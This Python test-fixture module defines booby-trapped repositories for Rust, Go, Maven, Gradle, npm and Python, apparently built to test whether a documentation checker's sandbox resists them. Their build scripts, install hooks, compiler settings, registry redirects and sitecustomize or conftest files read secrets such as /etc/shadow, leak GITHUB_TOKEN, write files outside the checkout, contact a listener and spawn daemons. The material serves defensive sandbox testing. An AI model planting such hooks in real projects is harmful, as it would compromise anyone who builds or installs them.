"""Repositories whose build files, settings and code attack whoever checks their documents.

`EVIL` stands for a shell script of the repository that leaves a mark wherever it may, calls the
listener and looks for the secret. OUTSIDE is a folder beside the repository that holds `secret`,
PORT the listener's. Each document has a block that is fine: it must be passed or left unverified.
"""

EVIL = """#!/bin/sh
touch OUTSIDE/PWNED PWNED ../PWNED
cat OUTSIDE/secret > PWNED.txt
/usr/bin/python3 -c "import socket; socket.create_connection(('127.0.0.1', PORT), 1)"
exec "$@"
"""

# --- Rust: all that cargo, rustup and rustc read from a checkout -------------------------------

_SPY = """
fn attack() -> String {
    let mut found = String::new();
    for path in ["OUTSIDE/secret", "/etc/shadow", "/root/.bashrc", "../secret", "../../secret"] {
        if std::fs::read(path).is_ok() { found += "READ "; }
    }
    for path in ["OUTSIDE/PWNED", "/usr/PWNED", "/opt/crates/PWNED", "/opt/rust/lib/PWNED"] {
        if std::fs::write(path, "x").is_ok() { found += "WROTE "; }
    }
    if std::net::TcpStream::connect(("127.0.0.1", PORT)).is_ok() { found += "NETWORK "; }
    if std::env::vars().any(|(_, value)| value.contains("SECRET")) { found += "VARIABLE "; }
    for number in 3..64 {
        let text = std::fs::read_link(format!("/proc/self/fd/{number}")).unwrap_or_default();
        if text.starts_with("OUTSIDE") { found += "DESCRIPTOR "; }
        let _ = std::fs::write(format!("/proc/self/fd/{number}"), "try 0\\nexit 0\\ndone 0\\n");
    }
    let daemon = "setsid sleep 4748 >/dev/null 2>&1 &";
    let _ = std::process::Command::new("sh").args(["-c", daemon]).status();
    found
}
"""
RUST = {
    "Cargo.toml": '[package]\nname = "widgets"\nversion = "0.1.0"\nedition = "2021"\n'
    'build = "build.rs"\n[dependencies]\nevil-macros = { path = "macros" }\n'
    '[profile.dev]\nrustflags = ["-Clinker=evil.sh"]\n[workspace]\nmembers = ["macros"]\n',
    "build.rs": _SPY + "fn main() {\n"
    '    println!("cargo:rustc-env=SEEN=[{}]", attack());\n'
    '    println!("cargo:rustc-link-arg=-fuse-ld=/work/evil.sh");\n'
    '    println!("cargo:rustc-env=LD_PRELOAD=/work/evil.so");\n}\n',
    "src/lib.rs": 'pub const SEEN: &str = env!("SEEN");\npub use evil_macros::spied;\n',
    "macros/Cargo.toml": '[package]\nname = "evil-macros"\nversion = "0.1.0"\nedition = "2021"\n'
    "[lib]\nproc-macro = true\n",
    "macros/src/lib.rs": "use proc_macro::TokenStream;\n" + _SPY + "#[proc_macro]\n"
    "pub fn spied(_: TokenStream) -> TokenStream {\n"
    '    format!("\\"[{}]\\"", attack()).parse().unwrap()\n}\n',
    ".cargo/config.toml": '[build]\nrustc = "EVIL"\nrustc-wrapper = "EVIL"\n'
    'rustc-workspace-wrapper = "EVIL"\nrustdoc = "EVIL"\ntarget-dir = "OUTSIDE/target"\n'
    '[target.x86_64-unknown-linux-gnu]\nlinker = "EVIL"\nrunner = "EVIL"\n'
    '[registry]\nglobal-credential-providers = ["EVIL"]\n[env]\nPATH = "/work"\n'
    '[http]\nproxy = "127.0.0.1:PORT"\n[alias]\nbuild = "!EVIL"\n'
    '[source.crates-io]\nreplace-with = "mine"\n'
    '[source.mine]\nregistry = "sparse+http://127.0.0.1:PORT/"\n',
    "rust-toolchain.toml": '[toolchain]\npath = "evil-toolchain"\n',
    "evil-toolchain/bin/rustc": "EVIL",
    "evil-toolchain/bin/cargo": "EVIL",
    "evil.sh": "EVIL",
    "README.md": "# Widgets\n\n```rust\n"
    'assert_eq!([widgets::SEEN, widgets::spied!()], ["[]", "[]"]);\n```\n\n```rust\n'
    'println!("{}", include_str!("OUTSIDE/secret"));\n```\n\n'
    '```rust\nprintln!("{}", env!("GITHUB_TOKEN"));\n```\n',
}

# --- Go: cgo, generate, embed, linkname, assembler, replace, toolchains, settings ---------------

GO = {
    "go.mod": "module example.org/widgets\n\ngo 1.21\n\ntoolchain go1.99.1\n\n"
    "replace example.org/outside => OUTSIDE\n",
    "go.work": "go 1.21\n\nuse .\nuse OUTSIDE\n",
    "go.env": "GOFLAGS=-toolexec=EVIL\nGOPROXY=http://127.0.0.1:PORT\nCC=EVIL\n",
    ".env": "GOFLAGS=-toolexec=EVIL\n",
    "widgets.go": "package widgets\n\n//go:generate EVIL\n\nfunc Answer() int { return 42 }\n",
    "native.go": "package widgets\n\n// #cgo CFLAGS: -fplugin=/work/evil.so -B/work\n"
    '// #cgo pkg-config: --define-variable=x=y evil\n// #include "OUTSIDE/secret"\nimport "C"\n',
    "shown/shown.go": 'package shown\n\nimport _ "embed"\n\n//go:embed secret\nvar Text string\n',
    "up/up.go": 'package up\n\nimport _ "embed"\n\n//go:embed ../../outside/secret\nvar T string\n',
    "linked/linked.go": 'package linked\n\nimport _ "unsafe"\n\n'
    "//go:linkname exit os.runtime_beforeExit\nfunc exit(code int)\n\n"
    "//go:cgo_import_dynamic evil evil \"/work/evil.so\"\n",
    "assembled/a.s": '#include "OUTSIDE/secret"\nTEXT ·F(SB), 4, $0\n\tSYSCALL\n\tRET\n',
    "assembled/a.go": "package assembled\n\nfunc F()\n",
    "evil.sh": "EVIL",
    "README.md": "# Widgets\n\n```go\npackage main\n\nimport (\n\t\"fmt\"\n\n"
    '\t"example.org/widgets"\n)\n\nfunc main() { fmt.Println(widgets.Answer()) }\n```\n\n'
    "```go\npackage main\n\n// #cgo LDFLAGS: -fplugin=/work/evil.so\n// int f() { return 1; }\n"
    'import "C"\nimport "fmt"\n\nfunc main() { fmt.Println(C.f()) }\n```\n\n'
    "```go\npackage main\n\nimport (\n\t_ \"embed\"\n\t\"fmt\"\n)\n\n//go:embed secret\n"
    "var text string\n\nfunc main() { fmt.Println(text) }\n```\n",
}  # fmt: skip

# --- Maven and Gradle: plugins, extensions, agents, wrappers, processors -------------------------

_PROCESSOR = """package org.widgets;
import java.util.Set;
import javax.annotation.processing.*;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;
import javax.tools.Diagnostic;
@SupportedAnnotationTypes("*")
public class Evil extends AbstractProcessor {
  public Evil() {
    try { new java.io.FileOutputStream("OUTSIDE/PWNED").close(); } catch (Exception refused) { }
    try { new java.net.Socket("127.0.0.1", PORT); } catch (Exception refused) { }
  }
  @Override public SourceVersion getSupportedSourceVersion() { return SourceVersion.latest(); }
  @Override public boolean process(Set<? extends TypeElement> found, RoundEnvironment round) {
    processingEnv.getMessager().printMessage(Diagnostic.Kind.ERROR, "PROCESSED");
    return false;
  }
}
"""
_SERVICE = "META-INF/services/javax.annotation.processing.Processor"
_JAVA_PAGE = (
    "# Widgets\n\n```java\nimport org.widgets.Widget;\n\nSystem.out.println(Widget.answer());\n"
    "```\n\n```java\nSystem.out.println(java.nio.file.Files.readString("
    'java.nio.file.Path.of("OUTSIDE/secret")));\n```\n'
)
_JAVA = {
    "src/main/java/org/widgets/Widget.java": "package org.widgets;\npublic class Widget {\n"
    "  static { try { new java.net.Socket(\"127.0.0.1\", PORT); } catch (Exception refused) { } }\n"
    "  public static int answer() { return 42; }\n}\n",
    "src/main/java/org/widgets/Evil.java": _PROCESSOR,
    f"src/main/resources/{_SERVICE}": "org.widgets.Evil\n",
    "evil.sh": "EVIL",
    "README.md": _JAVA_PAGE,
}  # fmt: skip
_EXEC = (
    "<plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId>"
    "<version>3.1.0</version><extensions>true</extensions><executions><execution>"
    "<phase>validate</phase><goals><goal>exec</goal></goals><configuration><executable>EVIL"
    "</executable></configuration></execution></executions></plugin>"
)
MAVEN = {
    **_JAVA,
    "pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>org.widgets</groupId>"
    "<artifactId>widgets</artifactId><version>1</version>"
    "<parent><groupId>evil</groupId><artifactId>parent</artifactId><version>1</version>"
    "<relativePath>../outside/pom.xml</relativePath></parent>"
    "<properties><maven.compiler.release>17</maven.compiler.release></properties>"
    "<repositories><repository><id>evil</id><url>http://127.0.0.1:PORT/</url></repository>"
    "</repositories><pluginRepositories><pluginRepository><id>evil</id>"
    "<url>http://127.0.0.1:PORT/</url></pluginRepository></pluginRepositories>"
    "<build><sourceDirectory>src/main/java</sourceDirectory>"
    "<resources><resource><directory>OUTSIDE</directory></resource></resources>"
    f"<plugins>{_EXEC}</plugins></build></project>",
    ".mvn/extensions.xml": "<extensions><extension><groupId>evil</groupId>"
    "<artifactId>core</artifactId><version>1</version></extension></extensions>",
    ".mvn/jvm.config": "-javaagent:evil.jar -XX:OnOutOfMemoryError=EVIL\n",
    ".mvn/maven.config": "-s\nevil-settings.xml\n-gs\nevil-settings.xml\n",
    ".mvn/wrapper/maven-wrapper.properties": "distributionUrl=http://127.0.0.1:PORT/maven.zip\n",
    ".mavenrc": "EVIL\n",
    "mvnw": "EVIL",
    "evil-settings.xml": "<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf>"
    "<url>http://127.0.0.1:PORT/</url></mirror></mirrors></settings>",
}
GRADLE = {
    **_JAVA,
    "build.gradle": '"EVIL".execute()\nplugins { id "java" }\n'
    'apply from: "http://127.0.0.1:PORT/evil.gradle"\n'
    'buildscript { repositories { maven { url "http://127.0.0.1:PORT/" } } }\n'
    'repositories { maven { url "http://127.0.0.1:PORT/"; allowInsecureProtocol = true } }\n'
    'sourceSets { main { java { srcDirs "src/main/java", "OUTSIDE" } } }\n',
    "settings.gradle": 'rootProject.name = "widgets"\n"EVIL".execute()\n'
    'includeBuild "../outside"\n',
    "buildSrc/build.gradle": '"EVIL".execute()\n',
    "init.gradle": '"EVIL".execute()\n',
    "gradle.properties": "org.gradle.jvmargs=-javaagent:evil.jar\norg.gradle.java.home=/work\n",
    "gradle/wrapper/gradle-wrapper.properties": "distributionUrl=http\\://127.0.0.1:PORT/g.zip\n",
    "gradlew": "EVIL",
}

# --- npm and TypeScript: scripts, settings, plugins, files of elsewhere ---------------------------

_SCRIPTS = ("preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare",
            "prepack", "postpack", "dependencies")  # fmt: skip
_RUNS = ", ".join(f'"{name}": "EVIL"' for name in _SCRIPTS)
NODE = {
    "package.json": f'{{"name": "widgets", "version": "1.0.0", "main": "index.js", '
    f'"types": "index.d.ts", "scripts": {{{_RUNS}}}, "dependencies": {{"deep": "file:./deep"}}, '
    '"packageManager": "pnpm@9.0.0", "workspaces": ["../outside", "deep"]}\n',
    "index.js": "exports.answer = () => 42;\n",
    "index.d.ts": "export function answer(): number;\n",
    "deep/package.json": f'{{"name": "deep", "version": "1.0.0", "scripts": {{{_RUNS}}}, '
    '"bin": {"node": "../evil.sh", "sh": "../../../evil.sh", "tsc": "evil.sh"}}\n',
    "deep/index.js": "exports.deep = 1;\n",
    "deep/binding.gyp": '{"targets": [{"target_name": "<!(EVIL)", "sources": []}]}\n',
    ".npmrc": "registry=http://127.0.0.1:PORT/\n//127.0.0.1:PORT/:_authToken=${GITHUB_TOKEN}\n"
    "script-shell=EVIL\nignore-scripts=false\nnode-options=--require=OUTSIDE/evil.cjs\n"
    "cache=OUTSIDE/cache\nprefix=OUTSIDE/prefix\ngit=EVIL\nfoo=${GITHUB_TOKEN}\n",
    ".yarnrc.yml": "yarnPath: EVIL\nplugins: [EVIL]\n",
    ".pnpmfile.cjs": "require('child_process').execSync('EVIL');\n",
    ".node-version": "../../evil\n",
    ".tool-versions": "nodejs path:/work\n",
    "tsconfig.json": '{"extends": "OUTSIDE/tsconfig.json", "compilerOptions": {'
    '"plugins": [{"transform": "EVIL"}, {"name": "EVIL"}], "typeRoots": ["OUTSIDE"], '
    '"paths": {"*": ["OUTSIDE/*"]}, "baseUrl": "/etc", "rootDirs": ["/etc"], '
    '"outDir": "OUTSIDE/out", "tsBuildInfoFile": "OUTSIDE/PWNED", "generateTrace": "OUTSIDE/out", '
    '"generateCpuProfile": "OUTSIDE/PWNED"}, "references": [{"path": "OUTSIDE"}], '
    '"files": ["OUTSIDE/secret"], "include": ["/etc/**/*"]}\n',
    "evil.sh": "EVIL",
    "README.md": "# Widgets\n\n```ts\nimport { answer } from 'widgets';\n\nconsole.log(answer());\n"
    "```\n\n```js\nconst { answer } = require('widgets');\nconsole.log(answer());\n```\n\n"
    "```ts\n/// <reference path=\"OUTSIDE/secret.d.ts\" />\nimport text from 'OUTSIDE/data.json';\n"
    "console.log(text);\n```\n",
}

# --- Python: the settings of its tools (its build backends are tried where they are installed) ---

PYTHON = {
    "pyproject.toml": '[project]\nname = "widgets"\nversion = "1.0"\n'
    '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    '[tool.uv]\nindex-url = "http://127.0.0.1:PORT/"\ncache-dir = "OUTSIDE/cache"\n'
    '[tool.uv.sources]\nwidgets = { path = "../outside" }\n',
    "evil.py": "import os, subprocess\nsubprocess.run(['sh', 'evil.sh'])\n"
    "from pathlib import Path\nPath('OUTSIDE/PWNED').touch()\n",
    "uv.toml": 'index-url = "http://127.0.0.1:PORT/"\n',
    "pip.conf": "[global]\nindex-url = http://127.0.0.1:PORT/\n",
    "setup.cfg": "[easy_install]\nindex_url = http://127.0.0.1:PORT/\n",
    ".python-version": "../../evil\n",
    "sitecustomize.py": "import subprocess\nsubprocess.run(['sh', 'evil.sh'])\n",
    "conftest.py": "import subprocess\nsubprocess.run(['sh', 'evil.sh'])\n",
    "doc_healing.py": "import subprocess\nsubprocess.run(['sh', 'evil.sh'])\n",
    "json.py": "import subprocess\nsubprocess.run(['sh', 'evil.sh'])\n",
    "evil.sh": "EVIL",
    "README.md": "# Widgets\n\n```python\nprint(6 * 7)\n```\n\n"
    "```python\nprint(open('OUTSIDE/secret').read())\n```\n",
}

REPOSITORIES = {
    "rust": RUST, "go": GO, "maven": MAVEN, "gradle": GRADLE, "node": NODE, "python": PYTHON,
}  # fmt: skip
